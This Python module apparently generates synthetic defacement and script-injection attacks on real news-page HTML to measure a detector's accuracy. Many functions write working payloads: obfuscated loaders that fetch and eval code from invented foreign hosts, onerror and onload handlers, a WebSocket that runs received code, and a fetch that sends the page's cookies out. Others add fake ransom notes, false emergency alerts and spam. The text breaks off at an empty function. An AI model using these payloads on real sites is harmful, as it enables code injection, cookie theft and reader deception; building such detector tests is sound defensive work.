"""Forms of attack on news front pages, for accuracy.py's --attacks: each works one attack into a real page's HTML.

SHOW, SAY, LOAD, HIDE, LOSE and LEAD: pictures, words, code, hidden pages, lost parts, links and forms that lead elsewhere.
"""
import base64 as k_b64, collections as k_col, html as k_html, re as k_re, urllib.parse as k_url

K_SAY = ["Your news is a lie and the world knows it", "We read your mail for a year. Tomorrow everyone will", "Editors: pay or we publish your sources",
         "Мы были внутри вашей сети. Завтра вы узнаете больше", "Правда не продаётся. Редакция молчит", "Həqiqəti gizlətmək olmaz. Biz buradayıq",
         "Yalanlarınızın hesabını vereceksiniz", "الحقيقة لا تموت ولن ننسى الشهداء", "حقیقت را پنهان نکنید، ما همه جا هستیم", "Ihr Schweigen hat einen Preis",
         "Vos mensonges sont terminés, nous sommes partout", "Ningún servidor es seguro: estuvimos aquí", "Ваш сервер теперь наш", "Estivemos aqui e levamos tudo",
         "Զգուշացում՝ ճշմարտությունը կհաղթի", "სიმართლე გაიმარჯვებს", "我们已经控制了这个网站", "Owned for fun, root was easy", "Hai bisogno di un amministratore migliore"]
K_SPAM = ["Slot Gacor Hari Ini Maxwin", "Situs Judi Online Terpercaya 2024", "Buy Cialis 20mg no prescription", "Казино онлайн без верификации", "Deneme bonusu veren siteler",
          "Mostbet aviator qeydiyyat bonusu", "Replica watches 80% off", "激安ブランドコピー専門店", "Best crypto casino 500% welcome", "Займ на карту без отказа", "Escort bayan ilanları", "Kasino ohne Lizenz"]
K_NOTE = ["All files of this newsroom are encrypted. Send {n} BTC to {w} within 48 hours.", "Все материалы редакции зашифрованы. Переведите {n} BTC на {w}.",
          "Bütün arxiv şifrələnib. {w} ünvanına {n} BTC göndərin.", "Alle Daten sind verschlüsselt: {n} BTC an {w}, sonst wird alles veröffentlicht.", "تم تشفير جميع الملفات. أرسل {n} BTC إلى {w}"]
K_RAISE = ["Emergency fund: support our reporters now", "Срочный сбор помощи пострадавшим", "Yardım kampaniyasına dəstək olun", "Spenden Sie jetzt in Krypto", "Ayúdanos hoy: donación directa", "تبرع الآن"]
K_TAG = r"<%s(?=[\s/>])(?:[^>\"']|\"[^\"]*\"|'[^']*')*>"
K_LONG = r"<(script|style|template|noscript|textarea|title|select|svg|iframe)\b.*?</\1\s*>"


def k_host(rng):
    """An invented host of somebody else's, seldom the same twice."""
    a = rng.choice(["jsq", "cdn", "stat", "edge", "pix", "web", "ads", "img", "api", "node", "media", "kit", "tagg", "fast", "lib", "cloudy"])
    b = rng.choice(["metrica", "layer", "hubb", "vault", "delivr", "storage", "assetz", "count", "roll", "tracc", "zone", "panel", "relay"])
    return f"{a}{rng.choice(['-', '', '.'])}{b}{rng.choice(['', str(rng.randrange(2, 99))])}.{rng.choice(['ru', 'top', 'xyz', 'cc', 'su', 'click', 'live', 'pw', 'online', 'info', 'com', 'net', 'io', 'site', 'icu'])}"


def k_name(rng):
    return "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randrange(4, 9)))


def k_addr(rng, *ends):
    """An address of a file on such a host."""
    folder = rng.choice(["", "a/", "js/", "wp-content/uploads/", "files/", "s/2/", "static/dist/", f"{k_name(rng)}/"])
    return f"{rng.choice(['https:', 'https:', ''])}//{k_host(rng)}/{folder}{k_name(rng)}{rng.choice(ends or ('.js',))}"


def k_pic(html, rng):
    """A picture on a foreign host or, as often, in the outlet's own folder of pictures."""
    return own_image(html, rng) if rng.random() < 0.4 else k_addr(rng, ".jpg", ".png", ".webp", ".gif")


def k_wallet(rng):
    return rng.choice(["bc1q", "1", "3"]) + "".join(rng.choice("acdefghjklmnpqrstuvwxyz023456789") for _ in range(34))


def k_top(html, what):
    """At the start of the body, or where a page without a body tag begins to show something."""
    m = k_re.search(r"<body[^>]*>", seen(html), k_re.I) or k_re.search(r"</head\s*>", seen(html), k_re.I)
    return html[:m.end()] + what + html[m.end():] if m else None


def k_head(html, what, rng=None):
    """In the head: first in it, last in it or after the title."""
    v = seen(html)
    spots = [m.end() for m in (k_re.search(r"<head(\s[^>]*)?>", v, k_re.I), k_re.search(r"</title\s*>", v, k_re.I)) if m]
    m = k_re.search(r"</head\s*>", v, k_re.I)
    if m: spots.append(m.start())
    if not spots: return None
    i = rng.choice(spots) if rng else spots[0]
    return html[:i] + what + html[i:]


def k_place(html, what, rng):
    """Somewhere in the body: at its start, in its middle or at its end."""
    return rng.choice([lambda: k_top(html, what), lambda: middle(html, what, rng), lambda: before_end(html, what)])()


def k_get(tag, name):
    m = k_re.search(r"[\s\"']%s\s*=\s*(\"[^\"]*\"|'[^']*'|[^\s>]+)" % name, tag, k_re.I)
    return m.group(1).strip("\"'") if m else None


def k_drop(tag, name):
    return k_re.sub(r"(?<=[\s\"'])%s(?:\s*=\s*(?:\"[^\"]*\"|'[^']*'|[^\s>]+))?(?=[\s/>])" % name, "", tag, flags=k_re.I)


def k_set(tag, name, value):
    """The tag with the attribute set, placed first so that it is the one that counts."""
    return k_re.sub(r"^<[\w-]+", lambda m: f'{m.group(0)} {name}="{value}"', k_drop(tag, name))


def k_each(html, names, change):
    """Every shown tag of these names, changed by change(tag) (None: left as it is); the page and how many were changed."""
    out, last, n = [], 0, 0
    for m in k_re.finditer(K_TAG % f"(?:{names})", seen(html), k_re.I):
        new = change(html[m.start():m.end()])
        if new is not None and new != html[m.start():m.end()]:
            out += [html[last:m.start()], new]; last = m.end(); n += 1
    return "".join(out) + html[last:], n


def k_texts(html, change):
    """Every text that a reader sees in the body, changed by change(text)."""
    m = k_re.search(r"<body[^>]*>", seen(html), k_re.I) or k_re.search(r"</head\s*>", seen(html), k_re.I)
    if not m: return None
    part = k_re.compile(r"<!--.*?-->|" + K_LONG + r"|<[a-zA-Z/!?](?:[^<>\"']|\"[^\"]*\"|'[^']*')*>|<[^>]*>", k_re.S | k_re.I)
    out, last, body = [], 0, html[m.end():]
    for t in part.finditer(body):
        s = body[last:t.start()]
        out += [change(s) if s.strip() else s, t.group(0)]; last = t.end()
    return html[:m.end()] + "".join(out) + body[last:]


def k_spans(html, names, least=0):
    """Start and end of each outermost element of these names with its end tag, and at least so many characters of text."""
    v, spans, last = seen(html), [], 0
    for m in k_re.finditer(K_TAG % f"({names})", v, k_re.I):
        if m.start() < last: continue
        depth = 0
        for t in k_re.finditer(r"<(/?)%s(?=[\s/>])" % m.group(1), v[m.start():], k_re.I):
            depth += -1 if t.group(1) else 1
            if depth == 0:
                end = v.find(">", m.start() + t.start()) + 1
                if len(text_of(html[m.start():end])) >= least: spans.append((m.start(), end)); last = end
                break
    return spans


def k_cut(html, spans, what=""):
    for a, b in sorted(spans, reverse=True): html = html[:a] + what + html[b:]
    return html


def k_insides(html, names, new, least=1, pick=lambda: True):
    """The words inside each short element of these names replaced, its tags kept; None with fewer than three such."""
    n = [0]
    def swap(m):
        if not text_of(m.group(3)) or len(m.group(3)) > 1500 or not pick(): return m.group(0)
        done = [False]
        def words(t):
            if len(text_of(t.group(1))) < least: return t.group(0)
            first, done[0] = not done[0], True
            return ">" + (new(t.group(1)) if first else "") + "<"
        inner = k_re.sub(r">([^<>]+)<", words, ">" + m.group(3) + "<")[1:-1]
        n[0] += done[0]
        return m.group(1) + inner + m.group(4)
    out = k_re.sub(r"(<(%s)(?=[\s>])[^>]*>)((?:(?!<\2[\s>]|<script|<style|<!--).)*?)(</\2\s*>)" % names, swap, html, flags=k_re.I | k_re.S)
    return out if n[0] >= 3 else None


def k_style(html, css, rng):
    """A style element, in the head or in the body."""
    t = f"<style>{css}</style>"
    return k_head(html, t, rng) if rng.random() < 0.6 else k_place(html, t, rng)


def k_code(rng):
    """Code without double quotes that fetches more code from a foreign host, in one of several spellings."""
    u = k_addr(rng, ".js", ".min.js", ".php", "", "?v=3"); v = k_name(rng)
    return rng.choice([f"var {v}=document.createElement('script');{v}.src='{u}';document.documentElement.appendChild({v})",
                       f"import('https:{u[u.index('//'):]}')",
                       f"fetch('{u}').then(function(r){{return r.text()}}).then(function(t){{(0,eval)(t)}})",
                       f"(function(d,{v}){{{v}=d.createElement('script');{v}.async=1;{v}.src=atob('{k_b64.b64encode(u.encode()).decode()}');(d.head||d.body).appendChild({v})}})(document)",
                       f"var {v}=new XMLHttpRequest;{v}.open('GET','{u}');{v}.onload=function(){{new Function({v}.responseText)()}};{v}.send()"])


def k_pictures(html, url, pick=lambda: True):
    """The shown pictures' addresses, in img and source, plain and lazy, replaced by url(); the page and how many were."""
    def change(tag):
        if not pick(): return None
        for a in ("srcset", r"data-[\w-]*src[\w-]*", "data-original", "data-lazy", "sizes"): tag = k_drop(tag, a)
        return k_set(tag, "srcset" if tag[:4].lower() == "<sou" else "src", url())
    return k_each(html, "img|source", lambda t: change(t) if t[:4].lower() == "<img" or k_re.search("srcset", t, k_re.I) else None)


# SHOW

def show_body_background(html, rng, inj):
    """A foreign picture fills the background of the whole page and shines through everything."""
    p = k_pic(html, rng)
    return k_style(html, f"html,body{{background:url({p}) {rng.choice(['center/cover fixed', 'repeat', '0 0/100% 100% no-repeat fixed'])}!important}}body *{{background:transparent!important}}"
                         + rng.choice(["", "body>*{opacity:.2!important}"]), rng)


def show_generated_content(html, rng, inj):
    """Words that stand in no element, only in a style sheet, cover the window."""
    return k_style(html, f"{rng.choice(['html', 'body'])}::{rng.choice(['before', 'after'])}{{content:'{rng.choice(K_SAY)}';position:fixed;top:0;left:0;right:0;bottom:0;z-index:{rng.randrange(10**6, 2**31)};"
                         f"background:{rng.choice(['#000', '#7a0000', '#012', '#fff'])};color:{rng.choice(['#f00', '#0f0', '#c90'])};font:bold {rng.randrange(30, 80)}px/1.4 {rng.choice(['monospace', 'Impact', 'serif'])};text-align:center;padding-top:30vh}}", rng)


def show_svg_poster(html, rng, inj):
    """A drawn poster with a slogan stands first on the page."""
    w, h = rng.randrange(800, 1600), rng.randrange(300, 900)
    return k_top(html, f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 {w} {h}" width="100%"><rect width="{w}" height="{h}" fill="{rng.choice(["black", "#600", "#063"])}"/><circle cx="{w // 2}" cy="{h // 3}" r="{h // 5}" fill="none" stroke="red" stroke-width="9"/>'
                       f'<text x="50%" y="80%" text-anchor="middle" fill="#fff" font-size="{rng.randrange(28, 60)}">{rng.choice(K_SAY)}</text></svg>')


def show_video(html, rng, inj):
    """A foreign film plays by itself, over the page or at its top."""
    place = rng.choice(["position:fixed;top:0;left:0;width:100vw;height:100vh;object-fit:cover;z-index:99998", "width:100%;max-height:90vh", "position:absolute;top:0;left:0;width:100%;z-index:5000"])
    return k_top(html, f'<video autoplay muted loop playsinline poster="{k_pic(html, rng)}" style="{place}"><source src="{k_addr(rng, ".mp4", ".webm")}"></video>')


def show_canvas(html, rng, inj):
    """A script paints a slogan over the window; no word of it stands in an element."""
    i = k_name(rng); s = "".join(f"\\u{ord(c):04x}" for c in rng.choice(K_SAY))
    return before_end(html, f'<canvas id="{i}" style="position:fixed;top:0;left:0;z-index:{rng.randrange(10**4, 10**8)}"></canvas><script>(function(){{var c=document.getElementById("{i}"),x;c.width=innerWidth;c.height=innerHeight;x=c.getContext("2d");'
                            f'x.fillStyle="#000";x.fillRect(0,0,c.width,c.height);x.fillStyle="{rng.choice(["lime", "red", "#ccc"])}";x.font="{rng.randrange(20, 60)}px monospace";x.fillText("{s}",40,{rng.randrange(90, 400)})}})()</script>')


def show_one_picture_everywhere(html, rng, inj):
    """Every picture of the page is the same one, on a foreign host or the outlet's own."""
    p = k_pic(html, rng); out, n = k_pictures(html, lambda: p)
    return out if n >= 3 else None


def show_pictures_by_style(html, rng, inj):
    """A line of style puts one foreign picture into the place of every picture."""
    return k_style(html, f"{rng.choice(['img', 'img,video', 'a img,figure img,img'])}{{content:url({k_pic(html, rng)})!important}}", rng) if len(list(images(html))) >= 3 else None


def show_dialog(html, rng, inj):
    """A modal dialog with a slogan stands over the page, which cannot be used behind it."""
    i = k_name(rng)
    return before_end(html, f'<dialog id="{i}" style="width:{rng.randrange(60, 100)}vw;height:{rng.randrange(50, 100)}vh;background:#100;color:#fff"><img src="{k_pic(html, rng)}" width="{rng.randrange(200, 700)}"><p style="font-size:3em">{rng.choice(K_SAY)}</p></dialog>'
                            f'<style>#{i}::backdrop{{background:#000}}</style><script>document.getElementById("{i}").showModal()</script>')


def show_popover(html, rng, inj):
    """A popover opened by the page itself tells the slogan in the top layer."""
    i = k_name(rng)
    return k_place(html, f'<section popover="manual" id="{i}" style="border:0;margin:0;inset:0;width:100%;height:{rng.randrange(70, 101)}%;background:{rng.choice(["#fff", "#000", "#930"])};color:{rng.choice(["red", "gold", "#4f4"])};font-size:{rng.randrange(3, 7)}em">'
                         f'{rng.choice(K_SAY)}<br><small>{k_host(rng)}</small></section><script>{i}.showPopover()</script>', rng)


def show_object(html, rng, inj):
    """Somebody else's page or drawing stands at the top of the page as an object or an embed."""
    size = f'width="100%" height="{rng.randrange(500, 1400)}"'
    return k_top(html, rng.choice([f'<object data="{k_addr(rng, ".html", ".svg", ".htm")}" {size}></object>', f'<embed src="{k_addr(rng, ".svg")}" type="image/svg+xml" {size}>', f'<object type="text/html" data="{k_addr(rng, ".php", "/")}" {size}></object>']))


def show_srcdoc(html, rng, inj):
    """A frame that carries its page within itself covers the window."""
    inner = k_html.escape(f'<body style="background:#000;color:#e00;text-align:center"><h1>{rng.choice(K_SAY)}</h1><img src="{k_pic(html, rng)}">')
    return k_place(html, f'<iframe srcdoc="{inner}" style="border:0;position:fixed;left:0;top:0;width:100%;height:100%;z-index:{rng.randrange(999, 10**7)}"></iframe>', rng)


def show_data_picture(html, rng, inj):
    """A big picture carried within the page, its words drawn in it, stands at the top or over all."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="1200" height="600"><rect width="1200" height="600" fill="#{rng.randrange(0x400000):06x}"/><text x="80" y="{rng.randrange(200, 400)}" fill="#fff" font-size="44">{rng.choice(K_SAY)}</text></svg>'
    u = "data:image/svg+xml;base64," + k_b64.b64encode(svg.encode()).decode() if rng.random() < 0.5 else "data:image/svg+xml," + k_url.quote(svg)
    return k_top(html, f'<img src="{u}" style="{rng.choice(["width:100%;display:block", "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:70000", "min-width:900px;margin:auto;display:block"])}">')


def show_shadow_root(html, rng, inj):
    """The body gets a shadow root without a slot: only the intruder's words show, the page is still in the HTML."""
    return k_top(html, f'<template shadowrootmode="{rng.choice(["open", "closed"])}"><center><h1>{rng.choice(K_SAY)}</h1><img src="{k_pic(html, rng)}"></center></template>') \
        if k_re.search(r"<body[^>]*>", seen(html), k_re.I) else None


def show_old_table(html, rng, inj):
    """A table in the manner of the nineties, dark and with a picture behind it, stands before the masthead."""
    return k_top(html, f'<table width="100%" height="{rng.randrange(300, 900)}" bgcolor="{rng.choice(["black", "#330000", "#001a00"])}" background="{k_pic(html, rng)}"><tr><td align="center"><font size="{rng.randrange(5, 8)}" color="{rng.choice(["red", "lime", "yellow"])}" face="Courier New">'
                       f'{rng.choice(K_SAY)}</font></td></tr></table>')


# SAY

def say_marquee(html, rng, inj):
    """Words run across the top of the page or through its middle."""
    m = f'<marquee behavior="{rng.choice(["scroll", "alternate"])}" scrollamount="{rng.randrange(5, 25)}" bgcolor="#{rng.randrange(0x1000000):06x}" style="font-size:{rng.randrange(24, 70)}px">{" *** ".join(rng.sample(K_SAY, 2))}</marquee>'
    return k_top(html, m) if rng.random() < 0.7 else middle(html, m, rng)


def say_alert(html, rng, inj):
    """The browser puts up a message box as the page loads."""
    s = rng.choice(K_SAY)
    return k_place(html, "<script>" + rng.choice([f"alert('{s}')", f"onload=function(){{alert('{s}')}}", f"for(var i=0;i<{rng.randrange(2, 9)};i++)alert(\"{s}\")", f"setTimeout(\"confirm('{s}')\",{rng.randrange(50, 900)})"]) + "</script>", rng)


def say_bar(html, rng, inj):
    """A bar of plain words stays at the edge of the window as one reads."""
    return k_place(html, f'<div role="{rng.choice(["alert", "banner", "status"])}" style="position:{rng.choice(["fixed", "sticky"])};{rng.choice(["top", "bottom"])}:0;left:0;width:100%;padding:{rng.randrange(10, 40)}px;z-index:{rng.randrange(9000, 10**8)};background:{rng.choice(["#c00", "#111", "#fd0"])};'
                         f'color:{rng.choice(["#fff", "#0f0"])};font-size:{rng.randrange(20, 44)}px">{rng.choice(K_SAY)}</div>', rng)


def say_fake_emergency(html, rng, inj):
    """A false emergency notice at the top tells readers to call, pay or flee."""
    s = rng.choice(["EVACUATE NOW: attack expected within the hour. Do not call the police, call {t}", "СРОЧНО: объявлена всеобщая мобилизация, явиться в течение часа. Тел. {t}", "TƏCİLİ: bütün bank hesabları dondurulur, zəng edin: {t}",
                    "ACHTUNG: Trinkwasser vergiftet! Hotline {t}", "URGENT : retirez votre argent avant minuit, appelez le {t}", "عاجل: انقلاب عسكري، اتصلوا بالرقم {t}"]).format(t=f"+{rng.randrange(10**9, 10**12)}")
    return k_top(html, f'<div style="background:{rng.choice(["red", "#900", "orange"])};color:#fff;font-size:{rng.randrange(24, 48)}px;padding:{rng.randrange(15, 50)}px;text-align:center"><b>{s}</b></div>')


def say_words_swapped(html, rng, inj):
    """The page's commonest long words are one abusive word everywhere."""
    words = [w for w, n in k_col.Counter(k_re.findall(r"\b[^\W\d_]{5,}\b", text_of(html))).most_common(60) if n >= 3]
    if len(words) < 6: return None
    bad = rng.choice(["LIARS", "ВОРЫ", "yalançılar", "Lügner", "خونة", "CORRUPTOS", "thieves"]); pat = k_re.compile(r"\b(?:%s)\b" % "|".join(rng.sample(words, min(len(words), rng.randrange(6, 25)))))
    return k_texts(html, lambda s: pat.sub(bad, s))


def say_menu(html, rng, inj):
    """Every entry of the lists and menus says the intruder's word."""
    s = rng.sample([w for t in K_SAY for w in [t[:28]]], 3)
    return k_insides(html, "li", lambda t: rng.choice(s))


def say_cards(html, rng, inj):
    """All longer links, the stories' own headlines among them, read the same."""
    s = rng.choice(K_SAY + K_SPAM)
    return k_insides(html, "a", lambda t: s, least=18)


def say_paragraphs(html, rng, inj):
    """Every paragraph says what the intruder wants told."""
    s = rng.sample(K_SAY, 2)
    return k_insides(html, "p", lambda t: rng.choice(s) + ".")


def say_after_each_story(html, rng, inj):
    """One and the same sentence hangs on at every longer text of the page."""
    s = f" {rng.choice(['—', '|', '***', '//'])} {rng.choice(K_SAY)}"; least = rng.randrange(20, 40)
    return k_texts(html, lambda t: t.rstrip() + s + " " if len(t.strip()) >= least else t)


def say_footer(html, rng, inj):
    """The foot of the page, its owner and its imprint, is the intruder's."""
    spans = k_spans(html, "footer") or k_spans(html, "ul|table|section|p", 20); spans = [s for s in spans if len(text_of(html[s[0]:s[1]])) < 0.3 * len(text_of(html))]
    return k_cut(html, spans[-1:], f'<footer style="padding:{rng.randrange(10, 60)}px;background:#{rng.randrange(0x500000):06x};color:#fff"><h2>{rng.choice(K_SAY)}</h2><p>root@{k_host(rng)} &copy; {k_name(rng)} team</p></footer>') if spans else None


def say_alternative_texts(html, rng, inj):
    """No picture loads, and in the place of each the browser writes the intruder's words."""
    s = rng.choice(K_SAY); out, n = k_pictures(html, lambda: f"/{k_name(rng)}.gone")
    out, _ = k_each(out, "img", lambda t: k_set(k_set(t, "alt", s), "title", s))
    return out if n >= 3 else None


def say_title_spam(html, rng, inj):
    """The title, and what search results and shared links say of the page, advertise gambling or pills."""
    s = " - ".join(rng.sample(K_SPAM, 2)); out = retitle(html, s)
    out, _ = k_each(out, "meta", lambda t: k_set(t, "content", s) if k_re.search(r"(?:name|property)\s*=\s*[\"']?(?:description|keywords|og:(?:title|description|site_name)|twitter:(?:title|description))\b", t, k_re.I) else None)
    return out


def say_backwards(html, rng, inj):
    """All writing runs backwards, letter by letter."""
    s = text_of(html); d = "ltr" if len(k_re.findall(r"[\u0590-\u06ff]", s)) > len(s) / 4 else "rtl"
    return k_style(html, f"{rng.choice(['body *', '*', 'a,p,h1,h2,h3,h4,li,span,div'])}{{direction:{d}!important;unicode-bidi:bidi-override!important}}", rng)


def say_encrypted(html, rng, inj):
    """All text is gibberish, and a note above asks for a ransom."""
    note = rng.choice(K_NOTE).format(n=rng.randrange(1, 40), w=k_wallet(rng)); abc = rng.choice(["0123456789abcdef", "ABCDEFGHJKLMNPQRSTUVWXYZ23456789+/", "█▓▒░"])
    out = k_texts(html, lambda s: k_re.sub(r"\w", lambda m: rng.choice(abc), k_html.unescape(s).replace("<", " ").replace("&", " ")))
    return k_top(out, f"<pre style='font-size:{rng.randrange(14, 30)}px'>{note}</pre>") if out else None


def say_ransom_note(html, rng, inj):
    """A note in the middle or at the top of the page asks the publisher for a ransom."""
    return k_place(html, f'<div style="border:{rng.randrange(3, 12)}px solid red;padding:30px;margin:20px;font-size:{rng.randrange(20, 36)}px"><h2>{rng.choice(["READ ME", "!!!", "DİQQƏT", "ВНИМАНИЕ", "ACHTUNG"])}</h2>{rng.choice(K_NOTE).format(n=rng.randrange(1, 40), w=k_wallet(rng))}</div>', rng)


def say_headings_by_style(html, rng, inj):
    """The headlines are shrunk to nothing by style and the intruder's words written in their place."""
    h = rng.choice(["h1,h2,h3", "h2,h3,h4", "h1,h2,h3,h4,h5"]); parts = h.split(",")
    if sum(len(k_re.findall(rf"<{p}[\s>]", seen(html), k_re.I)) for p in parts) < 3: return None
    return k_style(html, f"{h},{','.join(p + ' *' for p in parts)}{{font-size:0!important}}{','.join(p + '::before' for p in parts)}{{content:\"{rng.choice(K_SAY)}\";font-size:{rng.randrange(16, 40)}px;color:{rng.choice(['red', '#000', 'green'])}}}", rng)


def say_by_script(html, rng, inj):
    """A script writes the intruder's words into the links and headlines after the page has loaded."""
    s = "".join(f"\\u{ord(c):04x}" for c in rng.choice(K_SAY)); v = k_name(rng)
    return k_place(html, f"<script>addEventListener('{rng.choice(['load', 'DOMContentLoaded'])}',function(){{document.querySelectorAll('{rng.choice(['a', 'h1,h2,h3,h4,a', 'a,p,li', 'span,a,p'])}').forEach(function({v}){{{v}.{rng.choice(['textContent', 'innerText', 'innerHTML'])}='{s}'}})}})</script>", rng)


def say_letters_drawn(html, rng, inj):
    """A block of letters drawn as a picture, with greetings under it, opens the page."""
    rows = "\n".join("".join(rng.choice(" #█░\\/|_") for _ in range(rng.randrange(40, 70))) for _ in range(rng.randrange(8, 20)))
    return k_top(html, f'<pre style="background:#000;color:{rng.choice(["#0f0", "#f33", "#0ff"])};text-align:center;padding:20px">{rows}\n\n{rng.choice(K_SAY)}\n[ greetz: {k_name(rng)}, {k_name(rng)}, {k_name(rng)} ]</pre>')


# LOAD

def load_script_replaced(html, rng, inj):
    """One of the page's own scripts comes from a foreign host, under the same file name."""
    v = k_re.sub(r"<!--.*?-->", lambda m: " " * len(m.group(0)), html, flags=k_re.S); h = k_host(rng)
    found = [m for m in k_re.finditer(r"<script\b[^>]*?\ssrc\s*=\s*[\"']?([^\"'\s>]+)[^>]*>", v, k_re.I) if "json" not in m.group(0)[:40]]
    if not found: return None
    m = rng.choice(found); path = k_re.sub(r"^(?:https?:)?//[^/]*", "", m.group(1)).lstrip("./")
    return html[:m.start()] + k_set(k_drop(m.group(0), "integrity"), "src", f"https://{h}/{path}") + html[m.end():]


def load_module(html, rng, inj):
    """A module script imports foreign code."""
    u = "https:" + k_addr(rng, ".mjs", ".js").split(":")[-1]
    return k_place(html, f'<script type="module">import {rng.choice(["", "* as " + k_name(rng) + " from "])}"{u}";</script>', rng)


def load_import_map(html, rng, inj):
    """A map of module names makes a harmless name mean foreign code, and a module asks for it."""
    n = rng.choice(["lodash", "analytics", "vue", "core", "@app/main", "player"]); u = "https:" + k_addr(rng, ".js", ".mjs").split(":")[-1]
    return k_head(html, f'<script type="importmap">{{"imports":{{"{n}":"{u}"}}}}</script><script type="module">import "{n}"</script>')


def load_broken_picture(html, rng, inj):
    """A picture that cannot load runs code in its error handler; it stands inside a story."""
    return middle(html, rng.choice(["<img src=x onerror=\"{c}\">", "<img src='/0' width=1 height=1 onerror=\"{c}\" alt=''>", "<video><source src=1 onerror=\"{c}\"></video>", "<audio src=q onerror=\"{c}\"></audio>", "<input type=image src=z onerror=\"{c}\">"]).format(c=k_code(rng)), rng)


def load_drawing_handler(html, rng, inj):
    """A drawing in the page runs code as it loads, or is itself a foreign script's carrier."""
    u = k_addr(rng, ".js")
    return k_place(html, rng.choice([f'<svg width="0" height="0" onload="{k_code(rng)}"></svg>', f'<svg width=1 height=1><script href="{u}"></script></svg>', f'<svg style="position:absolute" width=0 height=0><script xlink:href="{u}"/></svg>']), rng)


def load_body_handler(html, rng, inj):
    """The body's own handlers run foreign code when the page is shown, scrolled or touched."""
    out, n = k_each(html, "body", lambda t: k_set(t, rng.choice(["onload", "onpageshow", "onscroll", "onpointermove", "onmouseover"]), k_code(rng)))
    return out if n else None


def load_rare_handler(html, rng, inj):
    """An element that opens, takes the focus or begins to move runs foreign code by itself."""
    c, k = k_code(rng), k_name(rng)
    return k_place(html, rng.choice([f'<details open ontoggle="{c}"><summary></summary></details>', f'<input autofocus onfocus="{c}" style="opacity:0;height:1px">', f'<style>@keyframes {k}{{to{{top:1px}}}}</style><b style="animation:{k} 1s" onanimationstart="{c}"></b>']), rng)


def load_link_handler(html, rng, inj):
    """A style sheet or preload in the head runs code, or turns into a script, when it has arrived."""
    u = k_addr(rng, ".css", ".js")
    return k_head(html, rng.choice([f'<link rel="stylesheet" href="{k_addr(rng, ".css")}" onload="{k_code(rng)}">', f'<link rel="preload" as="script" href="{u}" onload="var s=document.createElement(\'script\');s.src=this.href;document.head.appendChild(s)">', f'<link rel="stylesheet" href="/{k_name(rng)}.css" onerror="{k_code(rng)}">']), rng)


def load_style_sheet(html, rng, inj):
    """The page's looks are in a foreign host's hands."""
    return k_head(html, f'<link {rng.choice(["", "media=all "])}rel="{rng.choice(["stylesheet", "Stylesheet", "stylesheet prefetch"])}" href="{k_addr(rng, ".css", ".min.css", ".php?s=1")}">', rng)


def load_style_import(html, rng, inj):
    """A style element of the page imports a foreign sheet before anything else."""
    rule = f"@import {rng.choice(['url({})', 'url({}) screen', '{!r}'])};".format(k_addr(rng, ".css", ""))
    found = [m for m in k_re.finditer(r"<style(?:\s[^>]*)?>(?=\s*[^\s<])", k_re.sub(r"<!--.*?-->|<(script|noscript|svg)\b.*?</\1\s*>", lambda m: " " * len(m.group(0)), html, flags=k_re.S | k_re.I), k_re.I)]
    if not found: return k_head(html, f"<style>{rule}</style>", rng)
    i = rng.choice(found).end()
    return html[:i] + rule + html[i:]


def load_glyphs(html, rng, inj):
    """All writing is set in a foreign font, whose glyphs show other letters than the text has."""
    k = k_name(rng)
    return k_style(html, f"@font-face{{font-family:{k};src:url({k_addr(rng, '.woff2', '.woff', '.ttf')})}}{rng.choice(['*', 'body *', 'h1,h2,h3,h4,a,p,span'])}{{font-family:{k}!important}}", rng)


def load_worker(html, rng, inj):
    """A worker made from a text inside the page imports foreign code and keeps the reader's machine busy."""
    u = "https:" + k_addr(rng, ".js").split(":")[-1]; v = k_name(rng)
    body = rng.choice([f"atob('{k_b64.b64encode(f'importScripts({chr(34)}{u}{chr(34)})'.encode()).decode()}')", f"`importScripts('{u}')`", f"'import'+'Scripts(`{u}`)'"])
    return k_place(html, f"<script>{rng.choice(['', 'for(var i=0;i<(navigator.hardwareConcurrency||2);i++)'])}new Worker(URL.createObjectURL(new Blob([{body}]))).onmessage=function({v}){{}}</script>", rng)


def load_service_worker(html, rng, inj):
    """A service worker of the intruder's takes hold of the site in the reader's browser and asks for notifications."""
    f = rng.choice(["sw", "push", "worker", "firebase", k_name(rng)]) + f"-{rng.randrange(99)}.js"
    return k_place(html, f"<script>'serviceWorker' in navigator&&navigator.serviceWorker.register('/{f}?h={k_host(rng)}').then(function(r){{Notification.requestPermission()}})</script>", rng)


def load_wasm(html, rng, inj):
    """A binary program is fetched from a foreign host and started."""
    return k_place(html, f"<script>WebAssembly.instantiateStreaming(fetch('{k_addr(rng, '.wasm')}'),{{env:{{}}}}).then(function(m){{m.instance.exports.{rng.choice(['main', 'run', '_start', k_name(rng)])}()}})</script>", rng)


def load_document_write(html, rng, inj):
    """A short line writes a foreign script into the page, its tag and host in pieces."""
    u = k_addr(rng, ".js"); i = rng.randrange(4, len(u) - 3)
    return k_place(html, "<script>" + rng.choice([f"document.write('<scr'+'ipt src=\"{u[:i]}'+'{u[i:]}\"></scr'+'ipt>')", f"document.writeln(unescape('{k_url.quote(f'<script src={u}></script>', safe='')}'))",
                         f"document.write(String.fromCharCode({','.join(str(ord(c)) for c in f'<script src={u}></script>')}))"]) + "</script>", rng)


def load_into_own_script(html, rng, inj):
    """An inline script of the page's own has a line more, which fetches foreign code."""
    v = k_re.sub(r"<!--.*?-->|<(noscript|template)\b.*?</\1\s*>", lambda m: " " * len(m.group(0)), html, flags=k_re.S | k_re.I)
    found = [m for m in k_re.finditer(r"<script(?:\s+(?:type=[\"']?text/javascript[\"']?|nonce=[^\s>]+|async|defer|id=[^\s>]+))*\s*>(.*?)</script", v, k_re.I | k_re.S) if len(m.group(1).strip()) > 30 and "<!--" not in html[m.start(1):m.end(1)]]
    if not found: return None
    i = rng.choice(found).start(1)
    return html[:i] + rng.choice(["", "\n", ";"]) + "try{" + k_code(rng) + "}catch(e){};" + html[i:]


def load_command_line(html, rng, inj):
    """The page holds a line open to a foreign host and runs whatever is sent."""
    h, v = k_host(rng), k_name(rng)
    return k_place(html, "<script>" + rng.choice([f"new WebSocket('wss://{h}/{v}').onmessage=function(e){{Function(e.data)()}}", f"new EventSource('https://{h}/{v}').onmessage=function(e){{eval(e.data)}}",
                         f"setInterval(function(){{fetch('https://{h}/{v}?c='+encodeURIComponent(document.cookie)).then(function(r){{return r.text()}}).then(eval)}},{rng.randrange(2, 60)}e3)"]) + "</script>", rng)


def load_script_links(html, rng, inj):
    """Links that look as ever run foreign code when clicked."""
